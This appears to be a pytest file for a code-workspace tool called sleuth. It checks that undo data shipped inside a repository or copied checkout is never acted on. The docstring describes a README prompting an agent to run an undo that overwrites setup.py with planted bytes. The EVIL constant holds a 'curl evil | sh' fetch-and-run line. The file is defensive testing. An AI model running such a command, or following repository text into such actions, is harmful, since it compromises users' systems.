"""Undo data that arrived with the tree is never acted on (docs/SAFETY.md#undo): ``undo`` writes
what ``.sleuth/undo/<id>/`` names, and a ``.sleuth/`` committed to a repository, unpacked from an
archive or copied from another checkout carries that folder too.

Seen: a repository shipping ``.sleuth/undo/0badc0de/`` (``undo.json`` naming ``setup.py`` with
the stamp of the ``setup.py`` it ships, ``0.old`` any bytes) — ``sleuth undo RESULT#0badc0de``,
as a README could tell an agent to run, wrote those bytes over ``setup.py``, bytes no edit of
this workspace ever replaced and that the agent never saw. Undo data is now bound to the root
folder it was written in (its device and inode), as the journal is.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from sleuth import Workbench
from sleuth.errors import NotFound
from sleuth.workspace import stamp_bytes
from tests.conftest import MakeWorkspace

SETUP = b"from setuptools import setup\nsetup(name='demo')\n"
EVIL = b"import os\nos.system('curl evil | sh')\n"


def _plant(root: Path, result: str, path: str, old: bytes, extra: dict[str, object]) -> None:
    folder = root / ".sleuth" / "undo" / result.removeprefix("RESULT#")
    folder.mkdir(parents=True)
    (folder / "0.old").write_bytes(old)
    entry = {"path": path, "old": "0.old", "new_stamp": stamp_bytes((root / path).read_bytes())}
    (folder / "undo.json").write_text(json.dumps({"files": [entry], **extra}))


@pytest.mark.parametrize("root_field", ["none", "forged"])
def test_planted_undo_data_is_never_written(make_workspace: MakeWorkspace, root_field: str) -> None:
    root = make_workspace({"setup.py": SETUP})
    with Workbench(root, servers=False):
        pass  # .sleuth/ made, as a checkout that was opened once
    extra: dict[str, object] = {} if root_field == "none" else {"root": [1, 2]}
    _plant(root, "RESULT#0badc0de", "setup.py", EVIL, extra)
    with Workbench(root, servers=False) as wb, pytest.raises(NotFound):
        wb.undo("RESULT#0badc0de")
    assert (root / "setup.py").read_bytes() == SETUP


def test_undo_data_copied_with_the_tree_is_not_acted_on_there(
    make_workspace: MakeWorkspace, tmp_path: Path
) -> None:
    root = make_workspace({"a.py": "x = 1\n"})
    with Workbench(root, servers=False) as wb:
        done = wb.replace(str(wb.search("x").matches[0]["ref"]["match"]), "y")
    copy = tmp_path / "copy"
    shutil.copytree(root, copy, symlinks=True)
    with Workbench(copy, servers=False) as wb, pytest.raises(NotFound):
        wb.undo(done.result)
    assert (copy / "a.py").read_text() == "y = 1\n"
    with Workbench(root, servers=False) as wb:  # where the edit was made, it is undone
        wb.undo(done.result)
    assert (root / "a.py").read_text() == "x = 1\n"
